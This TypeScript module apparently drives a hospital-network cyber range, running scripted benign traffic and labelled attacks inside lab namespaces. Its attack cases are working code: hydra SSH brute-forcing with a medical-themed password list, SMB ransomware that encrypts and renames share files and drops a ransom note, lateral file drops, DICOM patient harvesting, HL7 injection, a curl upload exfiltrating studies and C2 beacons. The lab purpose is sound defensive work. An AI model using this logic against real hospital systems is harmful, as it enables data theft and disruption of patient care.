/**
 * @module actions
 * Runs one planned action: the real tool of its step, inside the source device's namespace, against
 * the target's address. Benign activity and attacks are the same kind of thing here; only the label
 * differs. Each returns the tool's exit status; the runner records it.
 */
import { createCipheriv, randomBytes } from 'node:crypto';
import { appendFileSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { deviceOf, serverOf, type LabContext } from './context.js';
import { inNamespace, type RunResult } from './processes.js';
import type { StepSpec } from './scenario.js';
import { adminKeyOf, PORTS, SHARE_FILES } from './services.js';
import type { PlannedAction } from './timeline.js';
import type { LabDevice } from './topology.js';

export interface ActionOutcome {
  /** 0 when every command of the action succeeded, else the first failing status (or -1). */
  readonly exitCode: number;
  readonly commands: number;
}

/** Common default passwords, as brute-force wordlists carry them. */
const PASSWORDS = [
  'admin',
  'password',
  '123456',
  'root',
  'toor',
  'changeme',
  'default',
  '12345678',
  'qwerty',
  'letmein',
  'service',
  'support',
  'administrator',
  'welcome',
  'password1',
  'hospital',
  'pacs',
  'dicom',
  'medical',
  'radiology',
  'manager',
  'operator',
  'guest',
  'user',
  'test',
  '1234',
  '0000',
  'abc123',
  'master',
  'secret',
];

// Timeouts, and no data sets in the logs: C-FIND responses carry patient attributes, which the
// lab never writes down (they are on the wire, in the capture, where they belong).
const DICOM_TIMEOUTS = ['-to', '10', '-ta', '10', '-td', '20', '--log-level', 'warn'];

function called(context: LabContext, to: LabDevice): string {
  return to.dicom?.aeTitle ?? deviceOf(context, to.name).dicom?.aeTitle ?? 'PACS';
}

/** Arguments of a dcmtk SCU run against `to`: timeouts, AE titles, query keys, address, files. */
function dcmtkArgs(
  context: LabContext,
  tool: 'echoscu' | 'storescu' | 'findscu',
  to: LabDevice,
  callingAe: string,
  options: { readonly root?: '-P' | '-S'; readonly keys?: readonly string[]; readonly files?: readonly string[] } = {},
): string[] {
  return [
    tool,
    ...DICOM_TIMEOUTS,
    ...(options.root === undefined ? [] : [options.root]),
    '-aet',
    callingAe,
    '-aec',
    called(context, to),
    ...(options.keys ?? []).flatMap((key) => ['-k', key]),
    to.ip,
    String(PORTS.dicom),
    ...(options.files ?? []).map((name) => join(context.paths.dicomDir, name)),
  ];
}

function userAgent(device: LabDevice): string {
  return device.userAgent ?? 'curl/7.88.1';
}

/** Runs one action; never throws for a tool's failure (that is the outcome). */
export async function runAction(context: LabContext, action: PlannedAction, step: StepSpec): Promise<ActionOutcome> {
  const from = deviceOf(context, action.from);
  const to = action.to === null ? undefined : deviceOf(context, action.to);
  const log = join(context.logDir, `${from.name}.actions.log`);
  const work = join(context.runDir, 'actions', String(action.id));
  mkdirSync(work, { recursive: true });
  appendFileSync(
    log,
    `--- #${String(action.id)} t=${String(action.at)} ${action.kind}${to === undefined ? '' : ` -> ${to.name}`}\n`,
  );
  let commands = 0;
  let exitCode = 0;
  const exec = async (argv: readonly string[], timeoutMs = 60_000): Promise<RunResult> => {
    commands++;
    const result = await context.procs.run(inNamespace(from.ns, argv), { log, cwd: work, timeoutMs });
    if (exitCode === 0 && result.code !== 0) exitCode = result.code ?? -1;
    return result;
  };
  const dns = serverOf(context, 'dns-dhcp');
  const dicomFile = (name: string): string => join(context.paths.dicomDir, name);
  const hl7File = (name: string): string => join(context.paths.hl7Dir, name);
  const hl7 = (target: LabDevice, app: string, facility: string, file: string): Promise<RunResult> =>
    exec([
      context.paths.node,
      join(context.paths.agentsDir, 'hl7-send.mjs'),
      target.ip,
      String(PORTS.hl7),
      app,
      facility,
      target.hl7?.application ?? 'ENGINE',
      target.hl7?.facility ?? 'HOSPITAL',
      file,
    ]);
  const smb = (target: LabDevice, share: string, commandsText: string): Promise<RunResult> =>
    exec(['smbclient', `//${target.ip}/${share}`, '-N', '-m', 'SMB3', '-c', commandsText]);

  switch (step.kind) {
    case 'dhcp-lease': {
      const dhcp = from.dhcp;
      if (dhcp === undefined) break;
      await exec([
        'busybox',
        'udhcpc',
        '-i',
        'eth0',
        '-f',
        '-q',
        '-n',
        '-t',
        '3',
        '-T',
        '2',
        '-s',
        '/bin/true',
        '-x',
        `hostname:${from.hostname}`,
        '-V',
        dhcp.vendorClass,
        ...dhcp.request.flatMap((option) => ['-O', option]),
      ]);
      break;
    }
    case 'dns-lookup':
      await exec(['dig', `@${dns?.ip ?? '127.0.0.1'}`, '+tries=1', '+time=2', action.choice ?? 'localhost', 'A']);
      break;
    case 'dicom-echo':
      if (to !== undefined) await exec(dcmtkArgs(context, 'echoscu', to, from.dicom?.aeTitle ?? 'ECHOSCU'));
      break;
    case 'dicom-store':
      if (to !== undefined)
        await exec(dcmtkArgs(context, 'storescu', to, from.dicom?.aeTitle ?? 'STORESCU', { files: step.files }));
      break;
    case 'dicom-find':
      if (to !== undefined)
        await exec(
          dcmtkArgs(context, 'findscu', to, from.dicom?.aeTitle ?? 'FINDSCU', {
            root: step.level === 'PATIENT' ? '-P' : '-S',
            keys: [
              `QueryRetrieveLevel=${step.level}`,
              'PatientID',
              'StudyInstanceUID',
              'StudyDate',
              'ModalitiesInStudy',
            ],
          }),
        );
      break;
    case 'hl7-send':
      if (to !== undefined)
        await hl7(
          to,
          from.hl7?.application ?? 'SENDER',
          from.hl7?.facility ?? 'HOSPITAL',
          hl7File(action.choice ?? ''),
        );
      break;
    case 'fhir-get':
      if (to !== undefined)
        await exec([
          'curl',
          '-sS',
          '-o',
          '/dev/null',
          '-m',
          '10',
          '-A',
          userAgent(from),
          '-H',
          'Accept: application/fhir+json',
          `http://${to.hostname}:${String(PORTS.fhir)}${action.choice ?? '/fhir/metadata'}`,
        ]);
      break;
    case 'smb-session':
      if (to !== undefined) {
        const note = join(work, 'note.txt');
        writeFileSync(note, `shift handover ${String(action.id)}\n`);
        const file = SHARE_FILES[action.id % SHARE_FILES.length] ?? 'rota-0002.xlsx';
        await smb(
          to,
          step.share,
          `ls; get ${file} ${join(work, 'read.bin')}; put ${note} handover-${from.hostname}.txt`,
        );
      }
      break;
    case 'ssh-admin':
      if (to !== undefined)
        await exec([
          'ssh',
          '-F',
          '/dev/null',
          '-i',
          adminKeyOf(context),
          '-o',
          'BatchMode=yes',
          '-o',
          'StrictHostKeyChecking=no',
          '-o',
          'UserKnownHostsFile=/dev/null',
          '-o',
          'LogLevel=ERROR',
          '-o',
          'ConnectTimeout=10',
          `root@${to.ip}`,
          step.command,
        ]);
      break;
    case 'ping-sweep':
      await exec(['nmap', '-sn', '-n', '-T4', step.target], 120_000);
      break;
    case 'port-scan':
      await exec(['nmap', '-sS', '-Pn', '-n', '-T4', '--max-retries', '1', '-p', step.ports, step.target], 120_000);
      break;
    case 'ssh-brute-force':
      if (to !== undefined) {
        const list = join(work, 'passwords.txt');
        const words = Array.from({ length: step.attempts }, (_, k) => {
          const base = PASSWORDS[k % PASSWORDS.length] ?? 'admin';
          return k < PASSWORDS.length ? base : `${base}${String(Math.floor(k / PASSWORDS.length))}`;
        });
        writeFileSync(list, `${words.join('\n')}\n`);
        // hydra exits 0 whether or not a password was found; a failure to connect is non-zero.
        await exec(
          ['hydra', '-I', '-q', '-l', step.user, '-P', list, '-t', '4', '-w', '10', `ssh://${to.ip}`],
          180_000,
        );
      }
      break;
    case 'smb-ransomware':
      if (to !== undefined) {
        const loot = join(work, 'loot');
        mkdirSync(loot, { recursive: true });
        // Read every file, "encrypt" it locally, write it back and rename it to the new extension.
        await smb(to, step.share, `prompt OFF; recurse OFF; lcd ${loot}; mget *`);
        const key = randomBytes(32);
        const names = readdirSync(loot).filter(
          (n) => !n.endsWith(`.${step.extension}`) && statSync(join(loot, n)).isFile(),
        );
        const script: string[] = [];
        for (const name of names) {
          const cipher = createCipheriv('aes-256-ctr', key, randomBytes(16));
          writeFileSync(
            join(loot, `${name}.enc`),
            Buffer.concat([cipher.update(readFileSync(join(loot, name))), cipher.final()]),
          );
          script.push(`put ${join(loot, `${name}.enc`)} ${name}`, `rename ${name} ${name}.${step.extension}`);
        }
        const note = join(work, 'HOW-TO-RESTORE.txt');
        writeFileSync(note, 'Your files are encrypted (Ward lab exercise).\n');
        script.push(`put ${note} HOW-TO-RESTORE.txt`);
        if (names.length > 0) await smb(to, step.share, script.join('; '));
      }
      break;
    case 'smb-lateral':
      if (to !== undefined) {
        const tool = join(work, 'svc-update.exe');
        writeFileSync(tool, randomBytes(48 * 1024));
        await exec(['smbclient', '-L', `//${to.ip}`, '-N', '-m', 'SMB3']);
        await smb(to, step.share, `ls; put ${tool} svc-update.exe; ls svc-update.exe`);
      }
      break;
    case 'dicom-harvest':
      if (to !== undefined) {
        for (let k = 0; k < step.queries; k++) {
          const letter = String.fromCharCode(65 + (k % 26));
          await exec(
            dcmtkArgs(context, 'findscu', to, step.aeTitle, {
              root: '-P',
              keys: [
                'QueryRetrieveLevel=PATIENT',
                `PatientName=${letter}*`,
                'PatientID',
                'PatientBirthDate',
                'PatientSex',
              ],
            }),
          );
        }
        await exec(
          dcmtkArgs(context, 'findscu', to, step.aeTitle, {
            root: '-S',
            keys: ['QueryRetrieveLevel=STUDY', 'StudyInstanceUID', 'PatientID', 'StudyDescription'],
          }),
        );
      }
      break;
    case 'dicom-rogue-store':
      if (to !== undefined) await exec(dcmtkArgs(context, 'storescu', to, step.aeTitle, { files: step.files }));
      break;
    case 'hl7-inject':
      if (to !== undefined) await hl7(to, step.application, step.facility, hl7File(action.choice ?? ''));
      break;
    case 'exfiltrate':
      if (to !== undefined) {
        // Real studies, concatenated until the archive is `megabytes` large.
        const files = [
          'CT_small.dcm',
          'MR_small.dcm',
          'rtplan.dcm',
          'rtdose.dcm',
          'rtstruct.dcm',
          'waveform_ecg.dcm',
        ].map(dicomFile);
        const target = step.megabytes * 1024 * 1024;
        const chunks: Buffer[] = [];
        for (let size = 0, k = 0; size < target; k++) {
          const chunk = readFileSync(files[k % files.length] ?? dicomFile('CT_small.dcm'));
          chunks.push(chunk);
          size += chunk.length;
        }
        const archive = join(work, 'studies.bin');
        writeFileSync(archive, Buffer.concat(chunks));
        await exec(
          [
            'curl',
            '-sS',
            '-k',
            '-o',
            '/dev/null',
            '-m',
            '120',
            '-A',
            userAgent(from),
            '-X',
            'POST',
            '-H',
            'Content-Type: application/octet-stream',
            '--data-binary',
            `@${archive}`,
            `https://${to.names[0] ?? to.ip}/upload`,
          ],
          150_000,
        );
      }
      break;
    case 'beacon-https':
      await exec([
        'curl',
        '-sS',
        '-k',
        '-o',
        '/dev/null',
        '-m',
        '10',
        '-A',
        userAgent(from),
        `https://${step.domain}${step.path}`,
      ]);
      break;
    case 'beacon-dns':
      await exec(['dig', `@${dns?.ip ?? '127.0.0.1'}`, '+tries=1', '+time=3', action.choice ?? step.domain, 'TXT']);
      break;
  }
  return { exitCode, commands };
}
